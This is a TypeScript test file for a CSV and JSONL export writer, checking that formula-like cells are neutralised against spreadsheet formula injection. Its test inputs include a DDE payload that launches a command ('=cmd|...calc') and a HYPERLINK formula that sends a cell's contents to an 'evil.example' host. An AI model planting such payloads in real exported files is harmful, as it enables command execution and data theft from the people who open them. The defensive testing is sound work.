import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Cell } from './cells'
import { csvCell, csvWriter } from './csv'
import { jsonlWriter } from './jsonl'

/** What a strict reader sees; any slip in quoting or in the number of cells throws. */
const read = (text: string): string[][] => parse(text, { relaxColumnCount: false, recordDelimiter: '\r\n' })

const line = (...cells: Cell[]): string[] => read(csvWriter(cells.map(() => 'x')).row(cells))[0] ?? []

const startsFormula = /^[\s\p{Cc}\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\0]/u

describe('a CSV cell', () => {
  it.each([
    '=1+1',
    '+919876543210',
    '-2+3',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    '\0x',
    '\uFF1D1+1',
    '\uFF0B1',
    '\uFF0D1',
    '\uFF20A',
    ' =1+1',
    '\u00A0=1',
    '\u200B=1',
    '\uFEFF=1',
    '\u202E=1',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
  ])('is text and no formula when it is %j [G-08]', (text) => {
    expect(line(text, 'next')).toEqual([`'${text}`, 'next'])
  })

  it.each(['Asha Rao', "O'Brien", 'a=b', 'SW-7K2M-QX', 'आशा राव', 'a,b "c"\r\nd', ' blank ', ''])(
    'is left as it is when it is %j',
    (text) => {
      expect(line(text, 'next')).toEqual([text, 'next'])
    },
  )

  it('keeps numbers numbers, times exact and lists together', () => {
    expect(line(-5, 1_000_000, true, null, new Date('2026-05-04T08:35:00.120Z'), ['pan', 'aadhaar'])).toEqual([
      '-5',
      '1000000',
      'true',
      '',
      '2026-05-04T08:35:00.120Z',
      'pan aadhaar',
    ])
  })

  it('comes back from a strict reader as it went in, whatever it holds, and never as a formula [G-08]', () => {
    const cells = fc.array(fc.string({ unit: 'binary', maxLength: 300 }), { minLength: 1, maxLength: 6 })
    fc.assert(
      fc.property(cells, (given) => {
        const got = line(...given)
        expect(got.map((text) => startsFormula.test(text))).toEqual(given.map(() => false))
        expect(got).toEqual(given.map((text) => (startsFormula.test(text) ? `'${text}` : text)))
      }),
    )
  })

  it('takes 100 KB of hostile text in linear time [F-42]', () => {
    for (const unit of [' ', '\u200B', '"', '\t', ','])
      expect(csvCell(unit.repeat(100_000)).length).toBeGreaterThan(99_999)
  })
})

describe('a file', () => {
  it('has as many cells in its remarks as in its rows, so that strict readers take it', () => {
    const writer = csvWriter(['reference', 'state', 'asked'])
    const text = writer.columns + writer.remark('Exported by =Asha', {}) + writer.row(['SW-7K2M-QX', 'held', 2])
    expect(read(text)).toEqual([
      ['reference', 'state', 'asked'],
      ['Exported by =Asha', '', ''],
      ['SW-7K2M-QX', 'held', '2'],
    ])
  })

  it('has one object a line in JSON, lists as lists, whatever the text holds', () => {
    const writer = jsonlWriter(['name', 'docs', 'at'])
    const text = writer.remark('by Asha', { rows: 1 }) + writer.row(['a\n"\u2028', ['pan'], new Date(0)])
    expect(
      text
        .trimEnd()
        .split('\n')
        .map((one) => JSON.parse(one)),
    ).toEqual([
      { export: { text: 'by Asha', rows: 1 } },
      { name: 'a\n"\u2028', docs: ['pan'], at: '1970-01-01T00:00:00.000Z' },
    ])
  })
})
